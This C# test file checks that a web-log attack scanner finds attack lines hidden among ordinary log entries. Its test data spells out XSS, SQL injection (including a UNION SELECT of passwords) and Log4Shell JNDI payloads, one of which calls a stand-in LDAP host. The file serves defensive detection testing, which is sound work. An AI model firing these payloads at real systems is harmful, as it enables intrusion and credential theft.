using System.Text;
using OpsModule.Engine.Areas.Attacks;

namespace OpsModule.Engine.Tests.Attacks;

/// <summary>That the last field of a line is known keeps nothing from being found.</summary>
public sealed class KnownTailsTests
{
    private const string Agent = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";

    [Fact]
    public async Task Attacks_are_found_before_in_and_across_a_field_that_was_clean_before()
    {
        string[] attacks =
        [
            Line("/search?q=<script>alert(1)</script>", "-", Agent),
            Line("/", "https://shop.example/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", Agent),
            Line("/", "-", Agent + " ${jndi:ldap://198.51.100.7/a}"),
            Line("/?id=1%27+or+%271%27=%271", "-", Agent), // it ends right before the field's quotation mark
        ];
        var lines = new List<string>();
        for (int i = 0; i < 400; i++) lines.AddRange([Line("/orders/" + i, "-", Agent), Line("/", "-", Agent.Replace("127", "" + i % 3)), attacks[i % attacks.Length]]);
        var found = new List<long>();
        var stream = new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', lines)));
        await foreach (IReadOnlyList<AttackMatch> matches in new AttackScanner(new AttackQuery(), TimeProvider.System).ScanStreamAsync(stream, "log", default))
            found.AddRange(matches.Select(m => m.Line));
        Assert.Equal(Enumerable.Range(1, 400).Select(i => i * 3L), found.Distinct());
    }

    [Fact]
    public async Task A_log_in_which_each_line_names_another_program_is_searched_as_well()
    {
        string[] lines = [.. Enumerable.Range(0, 5_000).Select(i => Line(i % 1_000 == 999 ? "/?x=${jndi:ldap://198.51.100.7/a}" : "/", "-", $"agent number {i} of a very long list"))];
        var found = new List<long>();
        var stream = new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', lines)));
        await foreach (IReadOnlyList<AttackMatch> matches in new AttackScanner(new AttackQuery(), TimeProvider.System).ScanStreamAsync(stream, "log", default))
            found.AddRange(matches.Select(m => m.Line));
        Assert.Equal([1000, 2000, 3000, 4000, 5000], found);
    }

    private static string Line(string target, string referrer, string agent) =>
        $"198.51.100.9 - - [21/Nov/2026:03:00:00 +0000] \"GET {target} HTTP/1.1\" 200 512 \"{referrer}\" \"{agent}\"";
}
